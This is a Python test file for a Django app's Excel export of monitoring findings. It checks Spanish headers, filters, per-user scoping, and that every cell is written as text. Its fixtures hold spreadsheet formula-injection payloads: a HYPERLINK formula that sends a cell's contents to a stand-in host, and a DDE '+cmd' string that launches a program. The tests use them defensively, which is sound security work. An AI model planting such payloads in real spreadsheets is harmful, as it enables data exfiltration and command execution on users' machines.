"""The cuadre's export: the filtered findings the user sees, with Spanish headers, every text
written as text (a message that looks like a formula stays that text)."""
from __future__ import annotations

import io

import openpyxl
import pytest

from monitoring import cuadre_services
from tests import factories

from .ui_builders import computed, finding

pytestmark = pytest.mark.django_db
URL = "/seguimiento/cuadre/exportar/?anio=2025&corte=2025-03-31"
FORMULA = '=HYPERLINK("http://x?d="&C5,"clic")'
HEADERS = ["Severidad", "Regla", "Título de la regla", "Objeto", "Mensaje", "Quién actúa", "Programa", "Dependencia",
           "Responsable", "Estado", "Justificación", "Justificado por", "Enlace"]


@pytest.fixture
def projects(monkeypatch, planner, lead, lead2):
    a = factories.project(lead=lead, name="@SUM(A1)")
    b = factories.project(lead=lead2, name="Mejoramiento")
    computed(monkeypatch, [
        finding("CU05", project=a, message=FORMULA),
        finding("CU01", project=b, message="Avance sin compromisos."),
    ])
    cuadre_services.finding_justify(year=2025, rule="CU01", object_kind="project", object_id=b.pk,
                                    comment="+cmd|' /C calc'!A0", by=planner)
    return a, b


def _rows(response) -> list[list]:
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="cuadre-2025-corte-2025-03-31.xlsx"'
    ws = openpyxl.load_workbook(io.BytesIO(response.content))["Hallazgos"]
    for row in ws.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
    return [[c.value for c in row] for row in ws.iter_rows()]


def test_the_export_has_spanish_headers_and_a_row_per_finding_with_formulas_as_text(login, planner, projects):
    a, b = projects
    rows = _rows(login(planner).get(URL))
    assert rows[0][0] == "Cuadre de la vigencia 2025 al 31/03/2025"
    assert rows[1][0].startswith("Calculado el ")
    assert rows[3] == HEADERS
    assert rows[4] == [
        "Error", "CU05", "Reporte mensual faltante", "@SUM(A1)", FORMULA, "Líder del proyecto", "4.2.1 Vivienda nueva",
        "Subdirección de Dotación de Vivienda", "Luis Líder", "Abierto", None, None,
        f"http://localhost:8000/proyectos/{a.pk}/",
    ]
    assert rows[5][9:12] == ["Justificado", "+cmd|' /C calc'!A0", "Paula Planeación"]


def test_the_export_follows_the_filters(login, planner, projects):
    rows = _rows(login(planner).get(URL + "&severidad=alerta"))
    assert [r[1] for r in rows[4:]] == ["CU01"]


def test_the_lead_exports_only_their_own(login, lead, projects):
    rows = _rows(login(lead).get(URL))
    assert [r[1] for r in rows[4:]] == ["CU05"]
